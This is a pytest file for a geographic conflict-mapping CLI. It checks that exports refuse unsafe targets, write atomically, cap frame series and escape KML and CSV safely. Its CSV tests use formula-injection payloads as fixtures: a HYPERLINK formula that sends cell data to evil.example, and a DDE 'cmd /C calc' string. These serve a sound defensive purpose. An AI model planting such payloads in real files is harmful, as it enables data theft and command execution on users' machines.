"""Outputs a hostile or careless user can aim at the wrong place, or interrupt (issue 14, "Outputs").

What a user would notice: `--out` pointed at the store, at another SQLite file, a link, a FIFO, a folder
or a device is refused with one line and exit 2, and the target keeps its bytes, mode and inode; every
file conflictmap writes has a normal file's mode; SIGTERM during a series leaves no hidden `.part` file;
a series of thousands of frames needs `--max-frames`; KML stays well-formed XML whatever the text holds;
CSV cells a spreadsheet would run as formulas are neutralised unless `--csv-formulas raw`.
"""

from __future__ import annotations

import csv
import errno
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from lxml import etree

from geo.cli import main
from geo.cli.exitcodes import ExitCode
from tests.fixtures.annotated_store import annotated_hand_store

pytestmark = pytest.mark.requires_gazetteer

REPO = Path(__file__).resolve().parents[2]
SQLITE_MAGIC = b"SQLite format 3\x00"
DATA_FORMATS = ("geojson", "gpkg", "csv", "kml", "html")


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("outputs") / "template.sqlite"
    annotated_hand_store(path).close()
    return path


@pytest.fixture
def db(template: Path, tmp_path: Path) -> Path:
    """A fresh copy of the annotated store per test: a refused write must be seen to leave it intact."""
    path = tmp_path / "store.sqlite"
    shutil.copyfile(template, path)
    return path


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def fingerprint(path: Path) -> tuple[bytes, int, int, int]:
    """What a refused write must not change: content, mode, inode, and the kind of file."""
    st = path.lstat()
    data = path.read_bytes() if stat.S_ISREG(st.st_mode) else b""
    return data, stat.S_IMODE(st.st_mode), st.st_ino, stat.S_IFMT(st.st_mode)


def writers(out: Path, db: Path | None) -> dict[str, list[str]]:
    """Every command that writes a file, aimed at `out` (with `--db db`, or the default store if None)."""
    tail = ["--db", str(db)] if db is not None else []
    return {
        "export csv": ["export", "--format", "csv", "--out", str(out), *tail],
        "export gpkg": ["export", "--format", "gpkg", "--out", str(out), *tail],
        "map png": ["map", "--date", "2021-08-13", "--dpi", "30", "--out", str(out), *tail],
        "annotations export": ["annotations", "export", "--out", str(out), *tail],
    }


def assert_refused(capsys: pytest.CaptureFixture[str], argv: list[str], target: Path, words: str) -> None:
    before = fingerprint(target)
    folder = sorted(p.name for p in target.parent.iterdir())
    code, stdout, err = run(capsys, *argv)
    assert code == ExitCode.ERROR, (argv, stdout, err)
    assert len(err.strip().splitlines()) == 1 and words in err, err
    assert "wrote" not in stdout
    assert fingerprint(target) == before
    assert sorted(p.name for p in target.parent.iterdir()) == folder  # and no temporary file left


# --- 1. the store, any SQLite file, anything but a regular file -------------------------------------------


@pytest.mark.parametrize("command", ["export csv", "export gpkg", "annotations export"])
def test_out_is_the_store_from_the_environment(db, capsys, monkeypatch, command):
    monkeypatch.setenv("CONFLICTMAP_DB", str(db))
    assert_refused(capsys, writers(db, None)[command], db, "is the store itself")
    assert db.read_bytes().startswith(SQLITE_MAGIC)


@pytest.mark.parametrize("link", ["hard", "symbolic"])
@pytest.mark.parametrize("command", ["export csv", "export gpkg", "map png", "annotations export"])
def test_out_is_the_store_through_a_link(db, tmp_path, capsys, command, link):
    alias = tmp_path / "store.png"  # a name `map` accepts, and any data format writes whatever the suffix
    if link == "hard":
        os.link(db, alias)
    else:
        alias.symlink_to(db)
    assert_refused(capsys, writers(alias, db)[command], alias, "is the store itself")
    assert fingerprint(db)[0].startswith(SQLITE_MAGIC)


@pytest.mark.parametrize("command", ["export csv", "export gpkg", "map png", "annotations export"])
def test_out_is_another_sqlite_file(db, template, tmp_path, capsys, command):
    other = tmp_path / "backup.png"
    shutil.copyfile(template, other)  # another store (a backup), under an innocent name
    assert_refused(capsys, writers(other, db)[command], other, "is an SQLite database")


def test_a_geopackage_export_may_replace_the_previous_one(db, tmp_path, capsys):
    out = tmp_path / "aug.gpkg"
    for _ in range(2):
        code, _, err = run(capsys, *writers(out, db)["export gpkg"])
        assert code == ExitCode.OK, err
    assert out.read_bytes()[68:72] == b"GPKG"
    assert_refused(capsys, writers(out, db)["export csv"], out, "is an SQLite database")


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


def _symlink_to_a_file(path: Path) -> Path:
    real = path.with_name("someone_else.png")
    real.write_bytes(b"precious")
    path.symlink_to(real)
    return path


@pytest.mark.parametrize("make", [_fifo, _folder, _symlink_to_a_file], ids=["fifo", "folder", "symlink"])
@pytest.mark.parametrize("command", ["export csv", "export gpkg", "map png", "annotations export"])
def test_out_is_not_a_regular_file(db, tmp_path, capsys, command, make):
    target = make(tmp_path / "target.png")
    assert_refused(capsys, writers(target, db)[command], target, str(target))
    if target.is_symlink():
        assert Path(os.readlink(target)).read_bytes() == b"precious"


@pytest.mark.parametrize("command", ["export csv", "export gpkg", "annotations export"])
def test_out_is_a_device(db, capsys, command):
    device = Path("/dev/full")
    before = device.lstat()
    code, stdout, err = run(capsys, *writers(device, db)[command])
    assert code == ExitCode.ERROR and len(err.strip().splitlines()) == 1 and "not a regular file" in err
    after = device.lstat()
    assert (after.st_ino, after.st_mode, after.st_rdev) == (before.st_ino, before.st_mode, before.st_rdev)


# --- 2. modes, atomic writes, and clean-up on errors and SIGTERM ----------------------------------------


def test_every_output_kind_has_a_normal_files_mode(db, tmp_path, capsys, umask_022):
    written: list[Path] = []
    for suffix in ("png", "svg", "pdf", "html"):
        out = tmp_path / f"map.{suffix}"
        dpi = [] if suffix == "html" else ["--dpi", "30"]  # an HTML map has no pixels: --dpi is refused
        code, _, err = run(capsys, "map", "--date", "2021-08-13", *dpi, "--out", str(out), "--db", str(db))
        assert code == ExitCode.OK, err
        written.append(out)
    for fmt in DATA_FORMATS:
        out = tmp_path / f"data.{fmt}"
        code, _, err = run(capsys, "export", "--format", fmt, "--out", str(out), "--db", str(db))
        assert code == ExitCode.OK, err
        written.append(out)
    frames = tmp_path / "frames"
    code, _, err = run(
        capsys, "map", "--from", "2021-08-12", "--to", "2021-08-13", "--dpi", "30", "--gif",
        "--out", str(frames), "--db", str(db),
    )  # fmt: skip
    assert code == ExitCode.OK, err
    written += sorted(frames.iterdir())
    out = tmp_path / "team.json"
    code, _, err = run(capsys, "annotations", "export", "--out", str(out), "--db", str(db))
    assert code == ExitCode.OK, err
    written.append(out)
    assert len(written) == 4 + len(DATA_FORMATS) + 3 + 1
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in written} == {
        p.name: "0o644" for p in written
    }
    assert not [p for p in tmp_path.rglob("*") if ".part" in p.name or p.name.endswith(".tmp")]


@pytest.mark.parametrize("command", ["export csv", "export gpkg", "map png", "annotations export"])
def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(db, tmp_path, capsys, monkeypatch, command):
    """A full disk shows up at fsync (or write) as ENOSPC: one line, exit 2, the previous file intact."""
    # an export's suffix must be its format's (`conflictmap export` refuses csv into a .png)
    out = tmp_path / {"export gpkg": "out.gpkg", "export csv": "out.csv"}.get(command, "out.png")
    out.write_bytes(b"previous export")
    out.chmod(0o640)

    def full_disk(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("geo.fileio.os.fsync", full_disk)
    assert_refused(capsys, writers(out, db)[command], out, "No space left on device")


def _wait_for(predicate, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_during_a_series_leaves_no_part_files(db, tmp_path, sig):
    frames = tmp_path / "frames"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    proc = subprocess.Popen(
        [
            sys.executable, "-m", "geo.cli", "map", "--from", "2021-08-01", "--to", "2021-12-31",
            "--every", "day", "--dpi", "20", "--gif", "--out", f"{frames}/", "--db", str(db),
        ],
        cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        started = _wait_for(lambda: frames.is_dir() and any(".part" in p.name for p in frames.iterdir()), 120)
        assert started and proc.poll() is None, proc.communicate()
        time.sleep(0.3)  # well inside the series: several frames are on disk as temporary files
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    expected = ExitCode.TERMINATED if sig == signal.SIGTERM else ExitCode.INTERRUPTED
    assert proc.returncode == expected, err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert list(frames.iterdir()) == []  # all or nothing: no frame, no GIF, no hidden `.part` file


def test_exit_codes_are_documented():
    table = (REPO / "README.md").read_text(encoding="utf-8")
    assert "| 143 |" in table and "| 130 |" in table
    assert ExitCode.TERMINATED == 128 + signal.SIGTERM


# --- 3. series length ------------------------------------------------------------------------------------


def _no_drawing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Drawing a frame fails loudly: a series that should be refused must be refused before the first."""

    def draw(*args: object, **kwargs: object) -> None:
        raise AssertionError("a frame was drawn")

    monkeypatch.setattr("geo.export.series.build_map_data", draw)


def test_a_series_of_thousands_of_frames_needs_max_frames(db, tmp_path, capsys, monkeypatch):
    _no_drawing(monkeypatch)
    frames = tmp_path / "frames"
    argv = ["map", "--from", "2000-01-01", "--to", "2021-11-25", "--every", "day", "--out", str(frames)]
    started = time.monotonic()
    code, _, err = run(capsys, *argv, "--db", str(db))
    assert code == ExitCode.ERROR and len(err.strip().splitlines()) == 1
    assert "8000 frames" in err and "--max-frames 8000" in err
    assert time.monotonic() - started < 5 and not frames.exists()


def test_max_frames_sets_the_limit(db, tmp_path, capsys):
    frames = tmp_path / "frames"
    argv = ["map", "--from", "2021-08-11", "--to", "2021-08-13", "--dpi", "20", "--out", str(frames)]
    code, _, err = run(capsys, *argv, "--max-frames", "2", "--db", str(db))
    assert code == ExitCode.ERROR and "3 frames" in err and "limit of 2" in err
    code, stdout, err = run(capsys, *argv, "--max-frames", "3", "--db", str(db))
    assert code == ExitCode.OK, err
    assert "wrote 3 frames" in stdout


def test_the_library_caps_a_series_too(db, tmp_path, monkeypatch):
    _no_drawing(monkeypatch)
    from geo.export import ExportError, render_series
    from geo.store import Store

    with Store(db) as store, pytest.raises(ExportError, match="600 frames.*max_frames=600"):
        render_series(store, "2021-01-01", "2022-08-23", out_dir=tmp_path / "f")
    assert not (tmp_path / "f").exists()


# --- 4 and 5. text that breaks a format -------------------------------------------------------------------

HOSTILE_ACTOR = "Tali\x1bban\x01 \x0bforces\x7f"
FORMULAS = {
    "actor": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _annotate(db: Path, actor: str, note: str) -> None:
    from geo.store import Store

    with Store(db) as store:
        ev = store.events_df()
        herat = ev.loc[(ev["place"] == "Herat") & (ev["kind"] == "captured"), "target_key"].iloc[0]
        store.annotate("event", herat, "edit_event", {"actor": actor}, analyst="ana")
        kabul = ev.loc[ev["place"] == "Kabul", "target_key"].iloc[0]
        store.annotate("event", kabul, "note", {"text": note}, analyst="ana")  # its only note
        store.annotate(
            "event",
            kabul,
            "set_point",
            {"latitude": 5.36, "longitude": -3.2, "name": "-Abidjan"},
            analyst="ana",
        )


def test_kml_is_well_formed_whatever_the_text_holds(db, tmp_path, capsys):
    _annotate(db, HOSTILE_ACTOR, "note with \x02 STX and a form feed \x0c")
    out = tmp_path / "events.kml"
    code, _, err = run(capsys, "export", "--format", "kml", "--out", str(out), "--db", str(db))
    assert code == ExitCode.OK, err
    root = etree.fromstring(out.read_bytes())  # raises XMLSyntaxError on any invalid character
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    actors = root.xpath("//k:Data[@name='actor']/k:value/text()", namespaces=ns)
    assert "Taliban forces\x7f" in actors  # control characters dropped, the words kept
    notes = root.xpath("//k:Data[@name='notes']/k:value/text()", namespaces=ns)
    assert any("note with  STX and a form feed " in n for n in notes)


def test_kml_title_is_xml_safe(db):
    from geo.export import data_bytes
    from geo.store import Store

    with Store(db) as store:
        blob = data_bytes(store, "kml", title="Report \x1b[31m<red>\x00 & more")
    root = etree.fromstring(blob)
    assert root.findtext("{http://www.opengis.net/kml/2.2}Document/{http://www.opengis.net/kml/2.2}name") == (
        "Report [31m<red> & more"
    )


def _read_csv(path: Path) -> tuple[pd.DataFrame, list[dict[str, str]]]:
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    return pd.read_csv(path), rows


def test_csv_neutralises_formula_cells(db, tmp_path, capsys):
    _annotate(db, FORMULAS["actor"], FORMULAS["notes"])
    out = tmp_path / "events.csv"
    code, _, err = run(capsys, "export", "--format", "csv", "--out", str(out), "--db", str(db))
    assert code == ExitCode.OK, err
    frame, rows = _read_csv(out)
    assert "'" + FORMULAS["actor"] in set(frame["actor"])
    assert any(str(n).startswith("'" + FORMULAS["notes"]) for n in frame["notes"].dropna())
    assert "'-Abidjan" in set(frame["place"])
    assert frame["longitude"].dtype.kind == "f" and -3.2 in set(frame["longitude"])  # numbers stay numbers
    assert any(r["longitude"] == "-3.2" for r in rows)
    leads = ("=", "+", "-", "@", "\t", "\r")
    assert not [
        v for r in rows for k, v in r.items() if k not in ("latitude", "longitude") and v.startswith(leads)
    ]


def test_csv_formulas_raw_writes_cells_unchanged(db, tmp_path, capsys):
    _annotate(db, FORMULAS["actor"], FORMULAS["notes"])
    out = tmp_path / "events.csv"
    code, _, err = run(
        capsys, "export", "--format", "csv", "--csv-formulas", "raw", "--out", str(out), "--db", str(db)
    )
    assert code == ExitCode.OK, err
    frame, _ = _read_csv(out)
    assert FORMULAS["actor"] in set(frame["actor"]) and "-Abidjan" in set(frame["place"])


def test_tab_and_carriage_return_leads_are_neutralised():
    from geo.export.writers.csv import neutralise_formulas

    frame = pd.DataFrame(
        {"text": ["\t=1+1", "\r@x", "plain", None, "-"], "number": [-1.5, 2.0, -3.2, 0.0, 1]}
    )
    out = neutralise_formulas(frame)
    assert list(out["text"].fillna("<null>")) == ["'\t=1+1", "'\r@x", "plain", "<null>", "'-"]
    assert list(out["number"]) == [-1.5, 2.0, -3.2, 0.0, 1.0]
